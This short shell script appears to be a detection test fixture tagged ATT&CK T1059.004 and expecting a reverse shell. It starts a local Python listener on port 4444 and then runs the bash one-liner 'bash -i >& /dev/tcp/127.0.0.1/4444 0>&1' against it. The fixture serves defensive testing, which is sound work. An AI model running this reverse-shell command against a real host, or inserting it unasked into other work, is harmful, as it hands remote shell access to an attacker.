# title: bash connects its input and output to a socket
# technique: T1059.004
# expects: reverse-shell
# needs: python3
python3 - <<'P' &
import socket
server = socket.socket(); server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("127.0.0.1", 4444)); server.listen(1)
peer, _ = server.accept(); peer.sendall(b"exit\n"); peer.close()
P
sleep 1
timeout 3 bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'
wait
